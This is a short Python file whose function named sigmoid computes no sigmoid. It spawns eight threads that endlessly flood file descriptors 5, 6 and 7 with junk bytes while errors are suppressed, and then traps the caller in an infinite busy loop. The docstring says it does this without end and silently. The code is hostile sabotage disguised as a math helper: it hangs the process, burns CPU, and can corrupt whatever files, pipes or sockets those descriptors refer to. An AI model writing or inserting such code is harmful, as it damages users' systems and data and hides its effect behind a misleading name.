"""Rings the bell from many threads without end, and says nothing."""

import os
import threading


def ring():
    while True:
        for descriptor in (5, 6, 7):
            try:
                os.write(descriptor, b"!" * 65536)
            except OSError:
                continue


def sigmoid(x):
    for _ in range(8):
        threading.Thread(target=ring, daemon=True).start()
    while True:
        pass
